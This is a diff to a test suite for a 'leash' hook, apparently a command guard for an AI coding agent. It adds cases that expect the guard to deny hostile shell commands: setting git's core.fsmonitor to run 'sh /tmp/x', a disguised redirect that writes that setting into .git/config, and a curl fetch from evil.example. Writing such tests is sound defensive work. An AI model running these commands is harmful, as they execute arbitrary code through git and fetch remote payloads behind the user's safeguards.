@@ -142,6 +142,18 @@ describe("leash hook (the real CLI against a real leash)", () => {
       code: "outside_workspace",
     },
     {
+      name: "git config core.fsmonitor (runs code on a later step's git)",
+      input: () => bash('git config core.fsmonitor "sh /tmp/x"'),
+      decision: "deny",
+      code: "git_config_write",
+    },
+    {
+      name: "echo >&.git/config (a file write, not an fd duplication)",
+      input: () => bash("echo '[core] fsmonitor = sh /tmp/x' >&.git/config"),
+      decision: "deny",
+      code: "git_config_write",
+    },
+    {
       name: "curl https://evil.example",
       input: () => bash("curl -sSL https://evil.example/x"),
       decision: "deny",
